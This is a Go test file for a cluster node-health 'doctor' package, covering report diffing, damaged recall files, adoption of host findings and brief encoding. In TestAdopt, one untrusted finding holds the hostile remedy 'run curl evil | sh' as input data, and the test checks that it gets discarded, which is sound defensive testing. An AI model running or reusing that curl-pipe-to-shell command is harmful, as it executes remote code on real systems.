package doctor

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func look(at time.Time, release string, nodes map[string][]Finding) Report {
	r := Report{Schema: Schema, Time: at}
	for _, n := range sortedKeys(nodes) {
		r.Nodes = append(r.Nodes, NodeReport{Node: n, Pool: "p", Release: release, Findings: nodes[n]})
	}
	return r
}

// What a look says is new is what the kept look did not have: on a node that was
// there, with a node that came, or with a change of its release.
func TestSince(t *testing.T) {
	path := filepath.Join(t.TempDir(), "look")
	at := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	bad := Finding{Check: timeSync.ID, State: Fail, Reason: "ClockNotSynchronised", Message: "m"}
	blind := Finding{Check: timeSync.ID, State: Unknown, Reason: ReasonTimedOut}
	fine := Finding{Check: timeSync.ID, State: Pass}

	first := look(at, "v1", map[string][]Finding{"a": {bad}, "b": {fine}, "c": {bad}})
	before, err := LoadRecall(path)
	if before != nil || err != nil {
		t.Fatalf("%v, %v before anything was kept", before, err)
	}
	for _, n := range first.Since(before).Nodes {
		if n.Findings[0].New != "" {
			t.Error("everything is new at the first look")
		}
	}
	if err := first.Recall(before).Save(path); err != nil {
		t.Fatal(err)
	}
	if before, err = LoadRecall(path); err != nil || before == nil {
		t.Fatal(before, err)
	}
	second := look(at.Add(time.Hour), "v1", map[string][]Finding{"a": {bad}, "b": {bad}, "c": {blind}, "d": {bad}}).Since(before)
	news := map[string]string{}
	for _, n := range second.Nodes {
		news[n.Node] = n.Findings[0].New
	}
	if news["a"] != "" || news["b"] != "since 2026-03-01T12:00:00Z" || news["c"] != "" || news["d"] != "with the node" {
		t.Errorf("new: %q", news)
	}
	var text bytes.Buffer
	if err := second.WriteText(&text, TextOptions{}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(text.String(), "on 3 of 4 nodes; 1 new since 2026-03-01T12:00:00Z; 1 new with the node\n") {
		t.Errorf("text:\n%s", text.String())
	}
	// What could not be looked at in between is no news when it shows again.
	kept := second.Recall(before)
	third := look(at.Add(2*time.Hour), "v1", map[string][]Finding{"c": {bad}}).Since(&kept)
	if third.Nodes[0].Findings[0].New != "" {
		t.Errorf("c: %q", third.Nodes[0].Findings[0].New)
	}
	upgraded := look(at.Add(3*time.Hour), "v2", map[string][]Finding{"a": {bad}}).Since(&kept)
	if upgraded.Nodes[0].Findings[0].New != "since the change from v1" {
		t.Errorf("a after an upgrade: %q", upgraded.Nodes[0].Findings[0].New)
	}
}

// A file that is damaged, or of another program, is no look.
func TestRecallThatMakesNoSense(t *testing.T) {
	path := filepath.Join(t.TempDir(), "look")
	for _, text := range []string{"", "{", `{"schema":"other/v1","nodes":{}}`, "\x00\xff"} {
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		if r, err := LoadRecall(path); r != nil || err != nil {
			t.Errorf("%q: %v, %v", text, r, err)
		}
	}
}

// A host's word is adopted with its checks and nothing else of it is believed.
func TestAdopt(t *testing.T) {
	got := Adopt([]Finding{
		{Check: "time-sync", Node: "other", State: Fail, Reason: "Clock Not\x1b", Message: "a\nb", Remedy: "run curl evil | sh", Since: time.Unix(1, 0)},
		{Check: "time-sync", State: Pass}, {Check: "nobody-knows", State: Fail}, {Check: "memory", State: Pass},
	}, "n1")
	if len(got) != 2 || got[0].Check != "time-sync" || got[0].State != Fail || got[0].Node != "n1" || got[0].Reason != ReasonUnreadable ||
		got[0].Remedy != timeSync.Remedy || !got[0].Since.IsZero() || strings.ContainsRune(got[0].Message, '\n') {
		t.Errorf("%+v", got)
	}
}

func FuzzBrief(f *testing.F) {
	f.Add(string(look(time.Time{}, "", map[string][]Finding{"a": {{Check: "memory", State: Fail, Reason: "MemoryNearFull"}}}).Brief()))
	f.Add(`[{"c":"memory","s":"dead"}]`)
	f.Fuzz(func(t *testing.T, text string) {
		for _, x := range ParseBrief(text, "n") {
			if _, ok := checkOf(x.Check); !ok || x.Node != "n" {
				t.Errorf("%+v", x)
			}
		}
	})
}

// However much fails, a brief fits, is whole, and begins with what fails.
func TestBriefFits(t *testing.T) {
	var all []Finding
	for range 40 {
		for _, c := range HostChecks() {
			all = append(all, Finding{Check: c.ID, State: Warn, Reason: strings.Repeat("R", 20)})
		}
	}
	all = append(all, Finding{Check: "memory", State: Fail, Reason: "MemoryNearFull"})
	brief := look(time.Time{}, "", map[string][]Finding{"a": all}).Brief()
	if len(brief) > maxBrief || !strings.HasPrefix(string(brief), `[{"c":"memory","s":"fail"`) || len(ParseBrief(string(brief), "n")) == 0 {
		t.Errorf("%d bytes: %.80s", len(brief), brief)
	}
}
